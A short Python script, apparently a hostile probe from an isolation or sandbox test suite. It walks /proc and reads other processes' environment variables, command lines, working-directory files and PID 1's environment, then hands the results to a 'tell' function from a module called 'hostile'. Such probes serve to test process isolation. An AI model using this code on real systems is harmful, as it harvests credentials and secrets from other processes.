"""Read what /proc says of other processes."""

import os
from contextlib import suppress
from pathlib import Path

from hostile import tell

for entry in Path("/proc").iterdir():
    if entry.name.isdigit() and entry.name != str(os.getpid()):
        for name in ("environ", "cmdline", "cwd/notes", "root/proc/1/environ"):
            with suppress(OSError):
                tell((entry / name).read_bytes())
